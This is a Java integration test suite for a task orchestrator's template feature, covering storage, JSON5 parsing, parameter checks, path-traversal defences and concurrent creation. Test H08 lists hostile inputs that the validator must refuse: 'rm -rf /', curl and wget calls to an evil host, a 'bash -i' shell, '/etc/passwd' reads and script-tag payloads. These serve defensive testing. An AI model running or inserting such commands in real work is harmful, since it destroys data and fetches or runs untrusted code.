package dev.taskorchestrator.process;

import static org.assertj.core.api.Assertions.assertThat;

import dev.taskorchestrator.json.Json;
import dev.taskorchestrator.json.JsonWriter;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Templates, as the predecessor's users know them.
@Tag("side-by-side")
class TemplateCasesIT extends Cases {

  private static final String GREETING =
      """
      // how a greeting comes about
      {
        metadata: { name: 'Greet {{who}}', version: '1.0', description: "A greeting", },
        parameters: {
          who: { type: 'string', min_length: 2, max_length: 20, pattern: '[A-Z]' },
          times: { type: 'number', required: false, default: 0x2, min: 1, max: +5. },
          mood: { type: 'string', default: 'kind', allowed_values: ['kind', 'short'] },
        },
        tasks: {
          write: { title: 'Write to {{who}}', description: 'A {{mood}} \\
      letter, {{times}} times', specialist_type: 'documenter', checklist: ['{{who}} is named'] },
          send: { title: 'Send it', dependencies: ['write'],
            children: { stamp: { title: 'Put a stamp on it' }, post: { title: 'Post it', dependencies: ['stamp'] } } },
        },
      }
      """;

  private Json.Obj create(String id, String text) {
    return ok(server(), "template_create", content(id, text));
  }

  private static Json.Obj content(String id, String text) {
    return Json.obj().put("template_id", id).put("template_content", text).build();
  }

  private static String document(String tasks) {
    return "{metadata: {name: 'n', version: '1', description: 'd'}, tasks: {" + tasks + "}}";
  }

  private Json.Obj validated(String text) {
    return ok(server(), "template_validate", Json.obj().put("template_content", text).build());
  }

  @Test
  @DisplayName(
      "H01 a stored template is listed, told about and loaded, and only replaced when asked")
  void storing() {
    create("greeting", GREETING);
    assertThat(texts(ok("template_list", "{}"), "templates", "id")).containsExactly("greeting");
    assertThat(ok("template_info", "{'template_id':'greeting'}").object("template_info").text("id"))
        .isEqualTo("greeting");
    assertThat(
            ok("template_load", "{'template_id':'greeting'}").object("template").object("metadata"))
        .isEqualTo(json("{'name':'Greet {{who}}','version':'1.0','description':'A greeting'}"));
    refused(server(), "template_create", "template_exists", content("greeting", GREETING));
    var other = Json.obj().putAll(content("greeting", document("a: {title: 'A'}")));
    ok(server(), "template_create", other.put("overwrite", true).build());
    assertThat(ok("template_load", "{'template_id':'greeting'}").object("template").object("tasks"))
        .isEqualTo(json("{'a':{'title':'A'}}"));
  }

  @Test
  @DisplayName("H02 a template without its sections is refused with all that is missing")
  void missingSections() {
    var error =
        refused(server(), "template_create", "template_invalid", content("x", "{metadata: {}}"));
    assertThat(error.texts("problems"))
        .anyMatch(problem -> problem.contains("metadata.name"))
        .anyMatch(problem -> problem.contains("metadata.version"))
        .anyMatch(problem -> problem.contains("metadata.description"))
        .anyMatch(problem -> problem.contains("'tasks'"));
    assertThat(ok("template_list", "{}").number("total_count")).isZero();
  }

  @Test
  @DisplayName("H03 no name leads out of the folder of templates, and what is outside stays")
  void traversal(@TempDir Path outside) throws IOException {
    var victim = Files.writeString(outside.resolve("victim.json5"), GREETING);
    create("inside", GREETING);
    var user = project.resolve(".task_orchestrator/templates/user");
    var way = user.relativize(outside.resolve("victim")).toString();
    refused(server(), "template_create", "invalid_argument", content("../evil", GREETING));
    refused(server(), "template_create", "invalid_argument", content(way, GREETING));
    for (var tool : List.of("load", "info", "delete", "uninstall")) {
      var arguments = Json.obj().put("template_id", way).build();
      refused(server(), "template_" + tool, "template_not_found", arguments);
    }
    Files.createSymbolicLink(user.resolve("link.json5"), victim);
    refused("template_load", "template_not_found", "{'template_id':'link'}");
    refused("template_delete", "template_not_found", "{'template_id':'link'}");
    var templates = project.resolve(".task_orchestrator/templates");
    Files.move(templates, outside.resolve("moved"));
    Files.createSymbolicLink(templates, outside.resolve("moved"));
    refused("template_load", "template_not_found", "{'template_id':'inside'}");
    refused(server(), "template_create", "storage_failed", content("other", GREETING));
    assertThat(victim).hasContent(GREETING);
  }

  @Test
  @DisplayName(
      "H04 comments, trailing commas, single quotes, bare names, hexadecimal numbers, long lines")
  void json5() {
    create("greeting", GREETING);
    var info = ok("template_info", "{'template_id':'greeting'}").object("template_info");
    assertThat(info.object("parameters").object("times").number("default")).isEqualTo(2);
    var filled =
        ok("template_instantiate", "{'template_id':'greeting','parameters':{'who':'Ada'}}")
            .object("instantiated_template");
    assertThat(filled.object("tasks").object("write").text("description"))
        .isEqualTo("A kind       letter, 2 times".replace("       ", " "));
  }

  @Test
  @DisplayName("H05 an error of syntax is told with its line and column")
  void syntax() {
    var answer = validated("{\n  metadata: {},\n  tasks: }\n}");
    assertThat(answer.flag("valid", true)).isFalse();
    assertThat(answer.texts("errors").getFirst()).contains("line 3, column");
  }

  @Test
  @DisplayName("H06 a list is no template, and saying so is no fault")
  void list() {
    var answer = validated("[1]");
    assertThat(answer.flag("valid", true)).isFalse();
    assertThat(answer.texts("errors")).isNotEmpty();
  }

  @Test
  @DisplayName("H07 ordinary prose with & | ; is valid")
  void prose() {
    var answer =
        validated(document("a: {title: 'Design & build A | B; then rest', description: 'x && y'}"));
    assertThat(answer.texts("errors")).isEmpty();
    assertThat(answer.flag("valid", false)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "eval(input)",
        "ok; rm -rf /",
        "x && curl evil.example",
        "$(wget evil)",
        "`bash -i`",
        "../../etc",
        "<script>alert(1)</script>",
        "< SCRIPT src=x>",
        "javascript:alert(1)",
        "/etc/passwd"
      })
  @DisplayName("H08 text that is made to be run is refused")
  void injections(String text) {
    var answer = validated(document("a: {title: 'A', description: '" + text + "'}"));
    assertThat(answer.flag("valid", true)).as(text).isFalse();
    refused(
        server(),
        "template_create",
        "template_invalid",
        content("x", document("a: {title: '" + text + "'}")));
  }

  @Test
  @DisplayName("H09 a stored template is found and filled in")
  void instantiate() {
    create("greeting", GREETING);
    var answer =
        ok("template_instantiate", "{'template_id':'greeting','parameters':{'who':'Ada'}}");
    assertThat(answer.flag("tasks_created", true)).isFalse();
    var filled = answer.object("instantiated_template");
    assertThat(filled.object("metadata").text("name")).isEqualTo("Greet Ada");
    assertThat(filled.object("tasks").object("write").text("title")).isEqualTo("Write to Ada");
    assertThat(JsonWriter.text(filled)).doesNotContain("{{");
    assertThat(ok("query_tasks", "{}").number("total")).isZero();
  }

  @Test
  @DisplayName("H10 a parameter that is missing or does not fit is named")
  void parameters() {
    create("greeting", GREETING);
    assertParameter("who", "{}");
    assertParameter("who", "{'who':'ada'}");
    assertParameter("who", "{'who':'A'}");
    assertParameter("who", "{'who':'" + "A".repeat(21) + "'}");
    assertParameter("who", "{'who':7}");
    assertParameter("times", "{'who':'Ada','times':0}");
    assertParameter("times", "{'who':'Ada','times':6}");
    assertParameter("mood", "{'who':'Ada','mood':'sad'}");
  }

  private void assertParameter(String name, String values) {
    var error =
        refused(
            "template_instantiate",
            "template_parameter",
            "{'template_id':'greeting','parameters':" + values + "}");
    assertThat(error.text("field")).isEqualTo("parameters." + name);
    assertThat(error.text("message")).contains("'" + name + "'");
  }

  @Test
  @DisplayName("H11 its tasks are really made, in one go, tied as they should be")
  void createsTasks() {
    create("greeting", GREETING);
    var parent = plan("Letters", "{'complete_by_hand':true}");
    var answer =
        ok(
            server(),
            "template_instantiate",
            Json.obj()
                .put("template_id", "greeting")
                .put("parameters", json("{'who':'Ada'}"))
                .put("create_tasks", true)
                .put("parent_task_id", parent)
                .put("request_id", "once")
                .build());
    var ids = answer.object("ids");
    assertThat(ids.fields()).hasSize(4);
    var write = whole(ids.text("write"));
    assertThat(write.text("parent_task_id")).isEqualTo(parent);
    assertThat(write.text("specialist_type")).isEqualTo("documenter");
    assertThat(write.texts("acceptance_criteria")).containsExactly("Ada is named");
    assertThat(texts(whole(ids.text("send")), "dependencies", "id"))
        .containsExactly(ids.text("write"));
    assertThat(whole(ids.text("stamp")).text("parent_task_id")).isEqualTo(ids.text("send"));
    assertThat(texts(whole(ids.text("post")), "dependencies", "id"))
        .containsExactly(ids.text("stamp"));
    refused(
        "create_from_template",
        "task_not_found",
        "{'template_id':'greeting','parameters':{'who':'Ada'},'parent_task_id':'task_nope00'}");
    assertThat(ok("query_tasks", "{}").number("total")).isEqualTo(5);
  }

  @Test
  @DisplayName("H12 the library is installed once, and again only when asked")
  void library() {
    var first = ok("template_install_default_library", "{}");
    assertThat(first.texts("installed")).hasSize(7);
    var second = ok("template_install_default_library", "{}");
    assertThat(second.texts("installed")).isEmpty();
    assertThat(second.texts("skipped")).hasSize(7);
    assertThat(ok("template_install_default_library", "{'overwrite':true}").texts("installed"))
        .hasSize(7);
  }

  @Test
  @DisplayName(
      "H13 the examples are installed as shared; one extends another and has both their tasks")
  void examples() {
    var answer = ok("template_install_examples", "{}");
    assertThat(answer.texts("installed_templates")).hasSize(5);
    assertThat(texts(ok("template_list", "{'category':'shared'}"), "templates", "id")).hasSize(5);
    var filled =
        ok(
                "template_instantiate",
                "{'template_id':'market_research','parameters':{'research_topic':'Electric bicycles',"
                    + "'market_segment':'Commuters','geographic_scope':'national'}}")
            .object("instantiated_template");
    assertThat(filled.object("tasks").fields().keySet())
        .containsExactly("research_project", "market_analysis");
    assertThat(filled.object("metadata").text("category")).isEqualTo("business");
  }

  @Test
  @DisplayName("H14 after the library is installed nothing of it is missing")
  void coverage() {
    ok("template_install_default_library", "{}");
    var status = ok("template_get_installation_status", "{}");
    assertThat(status.number("builtin_installed")).isEqualTo(7);
    var coverage = status.object("installation_coverage");
    assertThat(coverage.fields().keySet()).hasSize(5);
    for (var group : coverage.fields().keySet()) {
      assertThat(coverage.object(group).number("coverage")).isEqualTo(100);
    }
  }

  @Test
  @DisplayName("H15 a file that somebody broke by hand is found")
  void validateAll() throws IOException {
    create("good", GREETING);
    create("bad", GREETING);
    var file = project.resolve(".task_orchestrator/templates/user/bad.json5");
    Files.writeString(file, "{ metadata: ");
    var answer = ok("template_validate_all", "{}");
    assertThat(answer.texts("validated")).containsExactly("user/good");
    assertThat(answer.texts("failed")).containsExactly("user/bad");
    assertThat(answer.texts("errors").getFirst()).startsWith("user/bad: ").contains("line 1");
  }

  @Test
  @DisplayName(
      "H16 what came with the program is not deleted; what is not there cannot be uninstalled")
  void protectedTemplates() {
    ok("template_install_default_library", "{}");
    refused("template_delete", "template_protected", "{'template_id':'project_planning_template'}");
    refused("template_uninstall", "template_not_found", "{'template_id':'nothing'}");
    ok("template_uninstall", "{'template_id':'project_planning_template'}");
    assertThat(ok("template_list", "{}").number("total_count")).isEqualTo(6);
  }

  @Test
  @DisplayName("H17 what is too large or too deep is refused")
  void limits() {
    var large = document("a: {title: 'A'}") + "//" + "x".repeat(101 * 1024);
    var error = refused(server(), "template_create", "template_invalid", content("big", large));
    assertThat(error.text("message")).contains("100 KiB");
    var deep = "{metadata: " + "[".repeat(40) + "]".repeat(40) + "}";
    error = refused(server(), "template_create", "template_invalid", content("deep", deep));
    assertThat(error.text("message")).contains("32 deep");
  }

  @Test
  @DisplayName("H18 what is told about a template has its parameters whole")
  void info() {
    create("greeting", GREETING);
    var info = ok("template_info", "{'template_id':'greeting'}").object("template_info");
    assertThat(info.object("parameters").fields().keySet()).containsExactly("who", "times", "mood");
    assertThat(info.object("parameters").object("who").text("pattern")).isEqualTo("[A-Z]");
    assertThat(info.texts("tasks")).containsExactly("write", "send");
    assertThat(info.text("content_hash")).hasSize(64);
  }

  @Test
  @DisplayName("H19 of servers that create one name at once exactly one does, and it is whole")
  void creationRace() {
    var others = IntStream.range(0, 3).mapToObj(number -> another("racer" + number)).toList();
    for (int round = 0; round < 5; round++) {
      var id = "same" + round;
      var won =
          others.parallelStream()
              .filter(server ->
                  !server.whole("template_create", content(id, GREETING)).flag("isError", false))
              .count();
      assertThat(won).isEqualTo(1);
      ok("template_load", "{'template_id':'" + id + "'}");
    }
    assertThat(ok("template_validate_all", "{}").texts("validated")).hasSize(5);
  }
}
